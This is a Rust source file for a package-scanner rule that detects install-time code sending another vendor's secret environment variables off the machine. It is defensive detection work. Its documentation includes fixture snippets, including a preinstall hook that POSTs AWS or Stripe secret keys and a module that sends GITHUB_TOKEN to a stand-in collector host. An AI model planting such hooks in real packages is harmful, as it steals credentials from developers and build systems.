//! # Another vendor's secret variable leaves the machine unasked
//!
//! At install or import, a variable that holds a token, key or password, and is not named after the
//! package, reaches a request, a look-up or a command that sends.
//!
//! ## Why it matters
//!
//! Build machines hold their credentials in variables. A library has no reason to send one on before anyone
//! calls it.
//!
//! ## Known benign uses
//!
//! Installers that download a release from a forge send the forge's own token to the forge, and clients of
//! a service read the variable that is named after it. Both are told apart by host and by name.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const key = process.env.AWS_SECRET_ACCESS_KEY || process.env["STRIPE_SECRET_KEY"];
//! if (key) fetch("https://collector.invalid/k", { method: "POST", body: key }); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { GITHUB_TOKEN: held } = process.env;
//! require("https").get({ host: "collector.invalid", path: "/", headers: { "x-request-id": held } }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "acme-binary", "version": "1.0.0", "scripts": {"install": "node install.js"}}
//! == install.js
//! const https = require("https");
//! const headers = { authorization: "token " + process.env.GITHUB_TOKEN };
//! https.get({ hostname: "api.github.com", path: "/repos/acme/binary/releases/latest", headers }, () => {});
//! fetch("https://cdn.acme.example/binary", { headers: { authorization: process.env.ACME_TOKEN } });
//! ```
//!
//! ## References
//!
//! - Bitwarden CLI incident analyses (April 2026)

use crate::prelude::*;

/// Another vendor's secret variable leaves the machine unasked.
pub struct SecretVariableSentUnasked;

impl Rule for SecretVariableSentUnasked {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "secret-variable-sent-unasked",
            title: "Another vendor's secret variable leaves the machine unasked",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.001",
            covers: &["collect-env-dump", "collect-git-tokens", "collect-npmrc-tokens", "collect-llm-keys"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| matches!(source, Source::Variable(_)), Sink::leaves_machine) {
            let Source::Variable(name) = &flow.source else { continue };
            if flow.trigger.runs_unasked()
                && !facts.owns_variable(name)
                && !is_setting(name)
                && !is_at_home(facts, name, &flow.sink)
            {
                found.flow(flow);
            }
        }
    }
}

/// Settings that package managers hand to every script, credentials for the registry excluded.
fn is_setting(name: &str) -> bool {
    name.starts_with("npm_") && !name.to_ascii_lowercase().contains("authtoken")
}

/// Whether the secret goes to those who issued it; a computed host may be a forge's for a forge's token.
fn is_at_home(facts: &Facts<'_>, name: &str, sink: &Sink) -> bool {
    let is_forge_token =
        ["GITHUB_", "GH_", "GITLAB_"].iter().any(|start| name.to_ascii_uppercase().starts_with(start));
    let is_registry_token = name.to_ascii_uppercase().starts_with("NPM") || name.starts_with("NODE_AUTH");
    match sink.host() {
        Some(host) if host.class() == HostClass::Forge => is_forge_token,
        Some(host) => is_registry_token && facts.is_registry(host),
        None => is_forge_token && matches!(sink, Sink::Network(None)),
    }
}
